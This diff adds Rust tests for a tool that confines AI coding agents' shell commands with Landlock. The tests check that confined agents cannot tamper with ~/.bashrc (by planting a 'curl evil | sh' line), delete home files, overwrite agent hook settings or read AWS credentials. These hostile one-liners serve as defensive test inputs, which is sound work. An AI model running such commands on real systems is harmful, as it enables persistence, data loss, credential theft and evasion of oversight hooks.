@@ -1,0 +1,325 @@
+//! Confinement, black-box through the hook's own answer: for each agent's format, the rewritten
+//! command is taken from the answer and run the way that agent runs commands, in a scratch home
+//! and project that lie outside every temp directory (the temp directories stay writable).
+//!
+//! These tests need Landlock (Linux 6.2 or later with Landlock enabled); on a machine without it
+//! they fail rather than pass without having run.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+use rstest::rstest;
+
+/// A scratch world: `home/`, `proj/` (a git repository) and `ana/` (ANA_HOME).
+struct World {
+    dir: tempfile::TempDir,
+}
+
+impl World {
+    fn new() -> World {
+        assert!(
+            ana::confine::landlock::kernel_support().is_available(),
+            "these tests need Landlock: {}",
+            ana::confine::landlock::kernel_support().describe()
+        );
+        // Not under /tmp: the temp directories are writable to a confined command.
+        let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("a scratch dir");
+        let w = World { dir };
+        for d in ["home/x", "home/.claude", "home/.aws", "proj/sub", "ana/config"] {
+            std::fs::create_dir_all(w.path(d)).unwrap();
+        }
+        std::fs::write(w.path("home/.bashrc"), "# original\n").unwrap();
+        std::fs::write(w.path("home/x/keep"), "keep\n").unwrap();
+        std::fs::write(w.path("home/.claude/settings.json"), "{}\n").unwrap();
+        std::fs::write(w.path("home/.aws/credentials"), "[default]\naws_secret_access_key = SECRET123\n").unwrap();
+        w.sh("git init -q . && git config user.email t@example.com && git config user.name t && git commit -q --allow-empty -m init", "proj");
+        w
+    }
+
+    fn path(&self, rel: &str) -> PathBuf {
+        self.dir.path().join(rel)
+    }
+
+    fn read(&self, rel: &str) -> String {
+        std::fs::read_to_string(self.path(rel)).unwrap_or_else(|e| panic!("{rel}: {e}"))
+    }
+
+    /// The environment every process here gets: the scratch home, the real toolchains.
+    fn env(&self, c: &mut Command) {
+        let real_home = std::env::var("HOME").unwrap_or_else(|_| "/root".into());
+        let rustup = std::env::var("RUSTUP_HOME").unwrap_or_else(|_| format!("{real_home}/.rustup"));
+        let cargo = std::env::var("CARGO_HOME").unwrap_or_else(|_| format!("{real_home}/.cargo"));
+        c.env_clear()
+            .env("PATH", format!("/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:{cargo}/bin"))
+            .env("HOME", self.path("home"))
+            .env("ANA_HOME", self.path("ana"))
+            .env("RUSTUP_HOME", rustup)
+            .env("CARGO_HOME", cargo)
+            .env("LANG", "C.UTF-8");
+    }
+
+    /// Runs a setup command, unconfined, in `dir`.
+    fn sh(&self, script: &str, dir: &str) {
+        let mut c = Command::new("/bin/sh");
+        c.arg("-c").arg(script).current_dir(self.path(dir));
+        self.env(&mut c);
+        let out = c.output().unwrap();
+        assert!(out.status.success(), "setup `{script}` failed: {}", String::from_utf8_lossy(&out.stderr));
+    }
+
+    fn payload(&self, agent: &str, command: &str, cwd: &Path) -> Vec<u8> {
+        let cwd = cwd.display().to_string();
+        let v = match agent {
+            "claude-code" => serde_json::json!({"session_id": "s1", "transcript_path": "/dev/null", "cwd": cwd, "hook_event_name": "PreToolUse",
+                "tool_name": "Bash", "tool_input": {"command": command, "description": "a test"}}),
+            "copilot-cli" => serde_json::json!({"sessionId": "s1", "timestamp": 1, "cwd": cwd, "toolName": "bash",
+                "toolArgs": {"command": command, "description": "a test"}}),
+            "gemini-cli" => serde_json::json!({"session_id": "s1", "transcript_path": "/dev/null", "cwd": cwd, "hook_event_name": "BeforeTool",
+                "timestamp": "2026-01-01T00:00:00Z", "tool_name": "run_shell_command", "tool_input": {"command": command}}),
+            "codex" => serde_json::json!({"session_id": "s1", "turn_id": "t1", "transcript_path": null, "cwd": cwd, "hook_event_name": "PreToolUse",
+                "model": "m", "permission_mode": "default", "tool_name": "Bash", "tool_input": {"command": command}, "tool_use_id": "u1"}),
+            other => panic!("unknown agent {other}"),
+        };
+        serde_json::to_vec(&v).unwrap()
+    }
+
+    /// Runs the hook for `command` and returns its JSON answer.
+    fn hook(&self, agent: &str, command: &str, cwd: &str, extra_env: &[(&str, &str)]) -> (serde_json::Value, i32) {
+        let mut c = Command::new(env!("CARGO_BIN_EXE_ana"));
+        c.args(["hook", "--agent", agent]).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
+        self.env(&mut c);
+        for (k, v) in extra_env {
+            c.env(k, v);
+        }
+        let mut child = c.spawn().unwrap();
+        {
+            use std::io::Write;
+            child.stdin.take().unwrap().write_all(&self.payload(agent, command, &self.path(cwd))).unwrap();
+        }
+        let out = child.wait_with_output().unwrap();
+        let text = String::from_utf8_lossy(&out.stdout).into_owned();
+        let v = serde_json::from_str(text.trim()).unwrap_or_else(|e| panic!("the hook's answer is not JSON ({e}): {text:?}"));
+        (v, out.status.code().unwrap_or(-1))
+    }
+
+    /// The rewritten command from the agent's own rewrite field, after checking the answer
+    /// allows the call.
+    fn rewritten(&self, agent: &str, command: &str, cwd: &str) -> String {
+        let (v, code) = self.hook(agent, command, cwd, &[]);
+        assert_eq!(code, 0, "{v}");
+        let (decision, input) = match agent {
+            "claude-code" | "codex" => (&v["hookSpecificOutput"]["permissionDecision"], &v["hookSpecificOutput"]["updatedInput"]),
+            "copilot-cli" => (&v["permissionDecision"], &v["modifiedArgs"]),
+            "gemini-cli" => (&v["decision"], &v["hookSpecificOutput"]["tool_input"]),
+            _ => unreachable!(),
+        };
+        assert_eq!(decision, "allow", "{v}");
+        if agent == "claude-code" || agent == "copilot-cli" {
+            assert_eq!(input["description"], "a test", "other fields of the input are kept: {v}");
+        }
+        let line = input["command"].as_str().unwrap_or_else(|| panic!("no rewritten command in {v}")).to_owned();
+        assert!(line.contains(" run --profile "), "{line}");
+        line
+    }
+
+    /// Runs `script` the way `agent` runs commands, in `cwd`, with `stdin`.
+    fn run_as(&self, agent: &str, script: &str, cwd: &str, stdin: &str) -> Ran {
+        let (shell, flag) = match agent {
+            // Claude Code runs commands through the user's shell; /bin/sh is the strictest.
+            "claude-code" => ("/bin/sh", "-c"),
+            "codex" => ("/bin/bash", "-lc"),
+            _ => ("/bin/bash", "-c"),
+        };
+        let mut c = Command::new(shell);
+        c.arg(flag).arg(script).current_dir(self.path(cwd)).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
+        self.env(&mut c);
+        let mut child = c.spawn().unwrap();
+        {
+            use std::io::Write;
+            child.stdin.take().unwrap().write_all(stdin.as_bytes()).unwrap();
+        }
+        let out = child.wait_with_output().unwrap();
+        Ran { stdout: String::from_utf8_lossy(&out.stdout).into_owned(), stderr: String::from_utf8_lossy(&out.stderr).into_owned(), code: out.status.code().unwrap_or(-1) }
+    }
+
+    /// Hook, then run: the command as the agent would run it after ana's answer.
+    fn confined(&self, agent: &str, command: &str, cwd: &str) -> Ran {
+        let line = self.rewritten(agent, command, cwd);
+        self.run_as(agent, &line, cwd, "")
+    }
+}
+
+#[derive(Debug)]
+struct Ran {
+    stdout: String,
+    stderr: String,
+    code: i32,
+}
+
+const NOTE: &str = "ana: this command ran confined";
+
+#[rstest]
+fn an_interpreter_cannot_append_to_a_shell_start_up_file(#[values("claude-code", "copilot-cli", "gemini-cli", "codex")] agent: &str) {
+    let w = World::new();
+    let r = w.confined(agent, "python3 -c \"import os; open(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh\\n')\"", "proj");
+    assert_ne!(r.code, 0, "{r:?}");
+    assert!(r.stderr.contains("Permission denied"), "{r:?}");
+    assert!(r.stderr.contains(NOTE), "the model learns why: {r:?}");
+    assert_eq!(w.read("home/.bashrc"), "# original\n");
+}
+
+#[rstest]
+fn a_project_script_cannot_delete_outside_the_project(#[values("claude-code", "copilot-cli", "gemini-cli", "codex")] agent: &str) {
+    let w = World::new();
+    std::fs::write(w.path("proj/clean.sh"), "#!/bin/sh\nrm -rf \"$HOME/x\"\n").unwrap();
+    w.sh("chmod +x clean.sh", "proj");
+    let r = w.confined(agent, "./clean.sh", "proj");
+    assert_ne!(r.code, 0, "{r:?}");
+    assert_eq!(w.read("home/x/keep"), "keep\n");
+}
+
+#[rstest]
+fn an_interpreter_cannot_write_agent_settings(#[values("claude-code", "copilot-cli", "gemini-cli", "codex")] agent: &str) {
+    let w = World::new();
+    let r = w.confined(agent, "node -e \"require('fs').writeFileSync(require('os').homedir() + '/.claude/settings.json', '{\\\"hooks\\\":{}}')\"", "proj");
+    assert_ne!(r.code, 0, "{r:?}");
+    assert!(r.stderr.contains("EACCES"), "{r:?}");
+    assert_eq!(w.read("home/.claude/settings.json"), "{}\n");
+}
+
+#[rstest]
+fn a_one_liner_cannot_read_credentials(#[values("claude-code", "copilot-cli", "gemini-cli", "codex")] agent: &str) {
+    let w = World::new();
+    let r = w.confined(agent, "python3 -c \"import os; print(open(os.path.expanduser('~/.aws/credentials')).read())\"", "proj");
+    assert_ne!(r.code, 0, "{r:?}");
+    assert!(!r.stdout.contains("SECRET123") && !r.stderr.contains("SECRET123"), "{r:?}");
+    assert!(r.stderr.contains("Permission denied"), "{r:?}");
+}
+
+#[rstest]
+fn cd_carries_over_to_the_agents_shell(#[values("claude-code", "copilot-cli", "gemini-cli", "codex")] agent: &str) {
+    let w = World::new();
+    let line = w.rewritten(agent, "cd sub && python3 -c 'print(40 + 2)'", "proj");
+    let r = w.run_as(agent, &format!("{line}\nprintf '__pwd=%s\\n' \"$PWD\""), "proj", "");
+    assert!(r.stdout.contains("42\n"), "{r:?}");
+    let sub = w.path("proj/sub").canonicalize().unwrap();
+    assert!(r.stdout.contains(&format!("__pwd={}\n", sub.display())), "{r:?}");
+    assert!(!r.stderr.contains(NOTE), "no note when the command succeeds: {r:?}");
+}
+
+#[rstest]
+fn exit_status_streams_and_stdin_are_the_commands(#[values("claude-code", "copilot-cli", "gemini-cli", "codex")] agent: &str) {
+    let w = World::new();
+    let line = w.rewritten(agent, "python3 -c 'import sys; d = sys.stdin.read(); print(d.upper()); print(\"to-err\", file=sys.stderr); sys.exit(7)'", "proj");
+    let r = w.run_as(agent, &line, "proj", "hello");
+    assert_eq!(r.code, 7, "{r:?}");
+    assert_eq!(r.stdout, "HELLO\n");
+    assert!(r.stderr.starts_with("to-err\n"), "{r:?}");
+}
+
+#[rstest]
+fn a_cargo_build_runs(#[values("claude-code", "copilot-cli")] agent: &str) {
+    let w = World::new();
+    std::fs::create_dir_all(w.path("proj/src")).unwrap();
+    std::fs::write(w.path("proj/Cargo.toml"), "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\n\n[workspace]\n").unwrap();
+    std::fs::write(w.path("proj/src/main.rs"), "fn main() { println!(\"tiny ran\"); }\n").unwrap();
+    let r = w.confined(agent, "cargo build --offline --quiet && ./target/debug/tiny", "proj");
+    assert_eq!(r.code, 0, "{r:?}");
+    assert!(r.stdout.contains("tiny ran"), "{r:?}");
+}
+
+#[rstest]
+fn npm_installs_into_the_project(#[values("copilot-cli", "gemini-cli")] agent: &str) {
+    let w = World::new();
+    std::fs::create_dir_all(w.path("proj/dep")).unwrap();
+    std::fs::write(w.path("proj/dep/package.json"), r#"{"name":"dep","version":"1.0.0"}"#).unwrap();
+    std::fs::write(w.path("proj/package.json"), r#"{"name":"app","version":"1.0.0","dependencies":{"dep":"file:./dep"}}"#).unwrap();
+    let r = w.confined(agent, "npm install --offline --no-audit --no-fund --no-update-notifier", "proj");
+    assert_eq!(r.code, 0, "{r:?}");
+    assert!(w.path("proj/node_modules/dep/package.json").exists(), "{r:?}");
+    assert!(w.path("proj/package-lock.json").exists(), "{r:?}");
+}
+
+#[rstest]
+fn test_runner_caches_and_git_commit_work(#[values("claude-code", "copilot-cli", "gemini-cli", "codex")] agent: &str) {
+    let w = World::new();
+    std::fs::write(w.path("proj/mod.py"), "X = 1\n").unwrap();
+    // What a test runner writes: bytecode beside the sources, a cache directory, temp files.
+    std::fs::write(
+        w.path("proj/runtests.py"),
+        "import os, py_compile, tempfile\npy_compile.compile('mod.py', doraise=True)\nos.makedirs('.pytest_cache/v/cache', exist_ok=True)\nopen('.pytest_cache/v/cache/lastfailed', 'w').write('{}')\nwith tempfile.NamedTemporaryFile() as f: f.write(b'x')\nprint('tests ok')\n",
+    )
+    .unwrap();
+    std::fs::write(w.path("proj/commit.sh"), "#!/bin/sh\nset -e\ngit add -A\ngit commit -q -m 'from a confined script'\ngit log --oneline -1\n").unwrap();
+    w.sh("chmod +x commit.sh", "proj");
+    let r = w.confined(agent, "python3 runtests.py && ./commit.sh", "proj");
+    assert_eq!(r.code, 0, "{r:?}");
+    assert!(r.stdout.contains("tests ok") && r.stdout.contains("from a confined script"), "{r:?}");
+    assert!(w.path("proj/.pytest_cache/v/cache/lastfailed").exists());
+    assert!(w.path("proj/__pycache__").is_dir());
+}
+
+#[test]
+fn a_user_profile_extends_the_writable_areas() {
+    let w = World::new();
+    std::fs::create_dir_all(w.path("home/.mycache")).unwrap();
+    std::fs::write(w.path("ana/config/policy.toml"), "[[profile]]\nname = \"project\"\nwrite = [\"~/.mycache\"]\n").unwrap();
+    let r = w.confined("claude-code", "python3 -c \"import os; open(os.path.expanduser('~/.mycache/a'), 'w').write('ok')\"", "proj");
+    assert_eq!(r.code, 0, "{r:?}");
+    assert_eq!(w.read("home/.mycache/a"), "ok");
+}
+
+#[test]
+fn a_profile_can_never_open_guarded_paths() {
+    let w = World::new();
+    std::fs::write(w.path("ana/config/policy.toml"), "[[profile]]\nname = \"project\"\nwrite = [\"~\", \"~/.claude\"]\n").unwrap();
+    let r = w.confined("claude-code", "python3 -c \"import os; open(os.path.expanduser('~/.claude/settings.json'), 'w').write('x')\"", "proj");
+    assert_ne!(r.code, 0, "{r:?}");
+    assert_eq!(w.read("home/.claude/settings.json"), "{}\n");
+}
+
+#[rstest]
+fn without_confinement_the_call_needs_approval(#[values("claude-code", "copilot-cli", "gemini-cli", "codex")] agent: &str) {
+    let w = World::new();
+    let (v, _) = w.hook(agent, "python3 -c 'print(1)'", "proj", &[("ANA_CONFINE", "off")]);
+    let text = v.to_string();
+    assert!(!text.contains("updatedInput") && !text.contains("modifiedArgs") && !text.contains("tool_input"), "{v}");
+    assert!(text.contains("\"deny\""), "no approval agent runs here, so the approval is refused: {v}");
+    assert!(text.contains("would run this confined, but confinement is turned off"), "{v}");
+}
+
+#[test]
+fn ana_run_never_runs_the_command_unconfined_on_bad_input() {
+    let w = World::new();
+    let marker = w.path("proj/ran");
+    let cmd = format!("touch {}", marker.display());
+    for args in [
+        vec!["run", "--profile", "no-such-profile", "-c", cmd.as_str()],
+        vec!["run", "--cwd-file", "/tmp/elsewhere-0123456789abcdef", "-c", cmd.as_str()],
+        vec!["run", "--project", "relative", "-c", cmd.as_str()],
+        vec!["run", "-c", cmd.as_str(), "--", "true"],
+    ] {
+        let mut c = Command::new(env!("CARGO_BIN_EXE_ana"));
+        c.args(&args).current_dir(w.path("proj"));
+        w.env(&mut c);
+        let out = c.output().unwrap();
+        assert_eq!(out.status.code(), Some(126), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
+        assert!(String::from_utf8_lossy(&out.stderr).contains("the command was not run"), "{args:?}");
+        assert!(!marker.exists(), "{args:?} ran the command");
+    }
+}
+
+#[test]
+fn plain_allowed_commands_are_not_rewritten() {
+    let w = World::new();
+    let mut c = Command::new(env!("CARGO_BIN_EXE_ana"));
+    c.args(["hook", "--agent", "claude-code"]).stdin(Stdio::piped()).stdout(Stdio::piped());
+    w.env(&mut c);
+    let mut child = c.spawn().unwrap();
+    {
+        use std::io::Write;
+        child.stdin.take().unwrap().write_all(&w.payload("claude-code", "ls -la", &w.path("proj"))).unwrap();
+    }
+    let out = child.wait_with_output().unwrap();
+    assert!(out.stdout.is_empty(), "no opinion is no output: {}", String::from_utf8_lossy(&out.stdout));
+}
